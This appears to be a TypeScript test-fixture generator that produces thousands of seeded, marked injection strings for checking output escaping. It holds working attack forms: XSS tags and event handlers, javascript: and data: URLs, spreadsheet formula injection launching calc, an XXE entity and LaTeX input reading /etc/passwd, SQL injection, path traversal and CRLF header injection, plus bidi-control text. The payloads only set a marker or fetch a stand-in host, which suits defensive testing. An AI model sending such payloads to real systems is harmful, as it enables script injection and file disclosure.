/**
 * Texts that somebody wrote to do harm: some thousands, all different, the same in each run. Each bears a mark of its own, which
 * says which one it was where something comes of it: what runs writes it to `globalThis.hurt`, what is fetched has it in its
 * address.
 */

export interface Payload {
	/** "K17K", in the text once at least, in letters that every output keeps. */
	readonly mark: string;
	readonly text: string;
}

/** What would run; `RUN` becomes a statement that leaves the mark, `MARK` the mark itself. */
const RUNS: readonly string[] = [
	"<script>RUN</script>",
	"</script><script>RUN</script>",
	"<ScRiPt src=//hurt.example/MARK></sCrIpT>",
	"<script type=module>import '/hurt/MARK.js'</script>",
	"<img src=x onerror=RUN>",
	"<img src=/hurt/MARK.png>",
	'"><img src=x onerror="RUN">',
	"'><img src=x onerror='RUN'>",
	"` onmouseover=`RUN",
	'" autofocus onfocus="RUN" x="',
	"<svg onload=RUN>",
	"<svg><script>RUN</script></svg>",
	"<svg><animate onbegin=RUN attributeName=x>",
	"</text><script>RUN</script><text>",
	"<svg><use href='data:image/svg+xml,<svg id=x onload=RUN>#x'/></svg>",
	"<svg><foreignObject><iframe src='javascript:RUN'></iframe></foreignObject></svg>",
	"<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
	"<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
	"<iframe src=https://hurt.example/MARK></iframe>",
	"<object data=/hurt/MARK.swf></object>",
	"<embed src=/hurt/MARK>",
	"<video><source onerror=RUN></video>",
	"<details open ontoggle=RUN>",
	"<body onload=RUN>",
	"<link rel=stylesheet href=/hurt/MARK.css>",
	"<style>@import '/hurt/MARK.css';*{display:none}</style>",
	"<meta http-equiv=refresh content='0;url=/hurt/MARK'>",
	"<base href=https://hurt.example/MARK/>",
	"<form action=/hurt/MARK><button autofocus>",
	"<a href='javascript:RUN'>click</a>",
	"<template><img src=x onerror=RUN></template>",
	"<noscript><p title='</noscript><img src=x onerror=RUN>'>",
	"<!--><img src=x onerror=RUN>-->",
	"</title><script>RUN</script>",
	"</textarea><script>RUN</script>",
	"<plaintext>",
	"<x contenteditable onblur=RUN tabindex=0>",
];

/** Addresses that should not be followed. */
const ADDRESSES: readonly string[] = [
	"javascript:RUN",
	"JaVa\tScRiPt:RUN",
	"\u0001javascript:RUN",
	"data:text/html,<script>RUN</script>",
	"vbscript:MARK",
	"file:///hurt/MARK",
	"blob:https://hurt.example/MARK",
	"//hurt.example/MARK",
	"https://hurt.example/MARK",
	"https://user:pass@hurt.example/MARK?a=1&b=<b>#'\"",
	"https://xn--hurt-9za.example/MARK",
	"mailto:MARK@hurt.example?body=<script>",
	"tel:MARK",
	"[MARK](javascript:RUN)",
	"![MARK](https://hurt.example/MARK.png)",
];

/** What other formats than HTML take for more than a text. */
const FORMATS: readonly string[] = [
	'=HYPERLINK("https://hurt.example/MARK","x")',
	"+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(A1:A9)",
	"\t=1+1",
	"\uFF1D1+1",
	"'=already",
	'"quoted", and; more',
	'""',
	"one\r\ntwo\nthree\rfour",
	"]]> <![CDATA[ x ]]>",
	'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
	"&amp;lt;b&amp;gt; &lt; &#60; &#x3c; &nbsp &colon;",
	"\\u003cscript\\u003e \\x3c \\n",
	"}{ \\textbf{x} \\input{/etc/passwd} % $ # _ ~ ^",
	"$" + "{RUN} {{constructor.constructor('RUN')()}} #{RUN}",
	"(a) Tj ET Q \\) <</S/JavaScript/JS(RUN)>> endobj",
	"'; DROP TABLE events;--",
	"../../../../etc/passwd",
	"%3Cscript%3E %00 %0d%0aSet-Cookie:x=1",
	"__proto__ constructor toString",
	"undefined null NaN [object Object] {0} {place} %s",
	"**bold** `code` # head | cell |",
];

/** Signs that nobody sees, or that turn what stands beside them. */
const SIGNS: readonly string[] = [
	"\u202Egnol\u202C",
	"\u202E unclosed",
	"\u202D\u202E\u202B deep",
	"\u202C\u202C closes what it did not open",
	"\u2069\u2069\u202E breaks out",
	"\u2066\u2067\u2068 unclosed isolates",
	"\u2067\u202Einside\u2069 after",
	"\u200F\u200E\u061C",
	"zero\u200Bwidth\u200C\u200D\u2060\uFEFF",
	"soft\u00ADhyphen",
	"إدلب 12 (abc)",
	"a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
	"\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u{E0001}\u{E0041}",
	"nul\u0000bell\u0007 esc\u001B[31m del\u007F c1\u0085",
	"half\uD800 end \uDC00 \uFFFE\uFFFF",
	"line\u2028paragraph\u2029 nbsp\u00A0",
	"＜script＞ʼ＂",
];

/** How long the long ones are; a word without an end, and many. */
const LONG: readonly string[] = ["x".repeat(4000), "\u0639".repeat(1500), "long ".repeat(600)];
/** One in so many is long: all of them would take a page its memory, and show no more. */
const LONG_EACH = 97;

/** Which of the texts are read as signs that set a direction. */
export const DIRECTIONS = /[\u202A-\u202E\u2066-\u2069]/;

/** So many different payloads; the same number gives the same ones. */
export function payloads(count: number, seed = 1): readonly Payload[] {
	const random = mulberry(seed);
	const oneOf = (list: readonly string[]) => list[Math.floor(random() * list.length)] ?? "";
	const families = [RUNS, ADDRESSES, FORMATS, SIGNS];
	const plain = families.flat();
	return Array.from({ length: count }, (_, index) => {
		const mark = `K${index}K`;
		// Each alone first, then with others before and behind.
		const alone = plain[index];
		const [before, behind] = [oneOf(oneOfLists(families, random)), oneOf(plain)];
		const long = index % LONG_EACH === LONG_EACH - 1 ? oneOf(LONG) : "";
		const raw = alone === undefined ? `${before}MARK${behind}${long}` : `${alone}MARK`;
		return { mark, text: filled(raw, mark) };
	});
}

function oneOfLists<T>(lists: readonly T[], random: () => number): T {
	const found = lists[Math.floor(random() * lists.length)];
	if (found === undefined) throw new Error("no lists");
	return found;
}

function filled(text: string, mark: string): string {
	return text.replaceAll("RUN", `globalThis.hurt=/${mark}/.source`).replaceAll("MARK", mark);
}

/** Numbers from 0 to 1 that a seed gives, always the same (mulberry32). */
function mulberry(seed: number): () => number {
	let state = seed;
	return () => {
		state = (state + 0x6d2b79f5) | 0;
		let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
		mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
		return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
	};
}
